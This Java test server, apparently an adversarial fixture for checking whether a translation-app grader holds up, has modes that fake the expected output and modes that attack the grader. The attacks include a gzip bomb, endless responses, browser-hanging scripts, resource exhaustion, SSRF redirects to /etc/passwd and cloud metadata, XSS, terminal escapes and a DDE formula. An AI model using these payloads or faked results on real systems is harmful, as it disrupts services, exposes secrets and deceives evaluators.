import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.Executors;
import java.util.zip.GZIPOutputStream;

/** Programs that want points without work, or harm whoever grades them: the first argument says which, the second the port. */
public class Attack {
    static final String SENTENCE = "자녀로부터 온 편지입니다. 안녕하세요.";
    static final String BUTTON = "<form action='/translate' method='post'><button>샘플 편지 번역 요청하기</button></form>";
    static final String HEAD = "<!doctype html><meta charset='utf-8'>";
    static String remembered;

    public static void main(String[] words) throws Exception {
        String what = words[0];
        switch (what) {
            case "logs" -> flood();
            case "memory" -> remember();
            case "threads" -> multiply();
            case "message" -> say();
            default -> { }
        }
        HttpServer server = HttpServer.create(new InetSocketAddress(Integer.parseInt(words[1])), 64);
        server.setExecutor(Executors.newCachedThreadPool());
        server.createContext("/", exchange -> {
            try (exchange) {
                exchange.getRequestBody().readAllBytes();
                answer(what, exchange);
            } catch (InterruptedException ended) {
                Thread.currentThread().interrupt();
            }
        });
        server.start();
    }

    static void answer(String what, HttpExchange exchange) throws IOException, InterruptedException {
        boolean asked = exchange.getRequestMethod().equals("POST");
        switch (what) {
            case "by-itself" -> {
                if (asked) { Thread.sleep(8100); }
                send(exchange, 200, HEAD + (asked ? SENTENCE : BUTTON));
            }
            case "from-cache" -> {
                if (remembered == null) {
                    Thread.sleep(5000);
                    remembered = ask();
                } else {
                    Thread.sleep(8100);
                }
                send(exchange, 200, remembered);
            }
            case "by-script" -> send(exchange, 200, HEAD + "<button onclick=\"setTimeout(() => document.body.append('" + SENTENCE
                    + "'), 8100)\">샘플 편지 번역 요청하기</button>");
            case "script-loop" -> send(exchange, 200, HEAD + BUTTON + "<script>setTimeout(() => { for (;;) {} }, 100)</script>");
            case "alert" -> send(exchange, 200, HEAD + BUTTON + "<script>for (;;) alert('" + SENTENCE + "')</script>");
            case "tabs" -> send(exchange, 200, HEAD + BUTTON + "<script>setInterval(() => open('/'), 1); close()</script>");
            case "endless" -> endless(exchange, exchange.getResponseBody());
            case "bomb" -> {
                exchange.getResponseHeaders().set("Content-Encoding", "gzip");
                endless(exchange, null);
            }
            case "silent" -> Thread.sleep(600_000);
            case "login" -> {
                exchange.getResponseHeaders().set("WWW-Authenticate", "Basic realm=\"x\"");
                send(exchange, 401, BUTTON);
            }
            case "circle" -> redirect(exchange, "/" + System.nanoTime());
            case "to-file" -> redirect(exchange, "file:///etc/passwd");
            case "to-link-local" -> redirect(exchange, "http://169.254.169.254/latest/meta-data/");
            case "header" -> {
                exchange.getResponseHeaders().set("X-Long", "x".repeat(8 << 20));
                send(exchange, 200, HEAD + BUTTON);
            }
            case "control" -> send(exchange, 200, HEAD + BUTTON + "\u001b[31m\u001b]0;owned\u0007 <img src=x onerror=alert(1)> =cmd|'/c calc'!A1");
            case "large" -> send(exchange, 200, HEAD + BUTTON + "<p>x</p>".repeat(4 << 20));
            default -> send(exchange, 200, HEAD + BUTTON);
        }
    }

    static String ask() throws IOException, InterruptedException {
        return HttpClient.newHttpClient()
                .send(HttpRequest.newBuilder(URI.create(System.getenv("TRANSLATE_SERVICE_URL") + "/translate"))
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString("{\"text\": \"Hello from your child\"}")).build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
    }

    static void send(HttpExchange exchange, int status, String text) throws IOException {
        byte[] body = text.getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(status, body.length);
        exchange.getResponseBody().write(body);
    }

    static void redirect(HttpExchange exchange, String where) throws IOException {
        exchange.getResponseHeaders().set("Location", where);
        exchange.sendResponseHeaders(302, -1);
    }

    static void endless(HttpExchange exchange, OutputStream plain) throws IOException {
        exchange.sendResponseHeaders(200, 0);
        OutputStream out = plain == null ? new GZIPOutputStream(exchange.getResponseBody(), 1 << 16) : plain;
        out.write((HEAD + BUTTON).getBytes(StandardCharsets.UTF_8));
        byte[] zeros = new byte[1 << 20];
        for (;;) { out.write(zeros); }
    }

    static void flood() {
        for (int thread = 0; thread < 2; thread++) {
            new Thread(() -> { for (;;) { System.out.println("\u001b[2J" + "x".repeat(4000)); } }).start();
        }
    }

    static void remember() {
        new Thread(() -> {
            var kept = new java.util.ArrayList<byte[]>();
            for (;;) { kept.add(new byte[1 << 20]); }
        }).start();
    }

    static void multiply() {
        for (;;) {
            new Thread(() -> { try { Thread.sleep(600_000); } catch (InterruptedException ended) { } }).start();
        }
    }

    static void say() throws IOException {
        try (OutputStream out = new java.io.FileOutputStream("/dev/termination-log")) {
            byte[] red = ("\u001b[31m" + "x".repeat(1 << 20)).getBytes(StandardCharsets.UTF_8);
            for (int megabyte = 0; megabyte < 64; megabyte++) { out.write(red); }
        }
        System.exit(7);
    }
}
